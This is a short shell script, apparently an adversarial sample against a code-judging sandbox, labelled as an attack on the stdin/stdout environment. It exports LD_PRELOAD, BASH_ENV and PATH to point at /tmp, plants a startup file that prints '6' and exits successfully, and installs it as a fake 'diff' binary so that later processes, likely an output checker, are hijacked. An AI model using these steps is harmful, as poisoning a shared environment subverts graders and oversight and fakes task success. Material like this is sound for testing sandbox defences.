# Attack on stdin_stdout (environment): exports LD_PRELOAD, BASH_ENV and PATH for whoever comes next.
export LD_PRELOAD=/tmp/x.so BASH_ENV=/tmp/env PATH=/tmp:$PATH
echo "echo 6; exit 0" >/tmp/env
cp /tmp/env /tmp/diff 2>/dev/null; chmod +x /tmp/diff
bash -c :
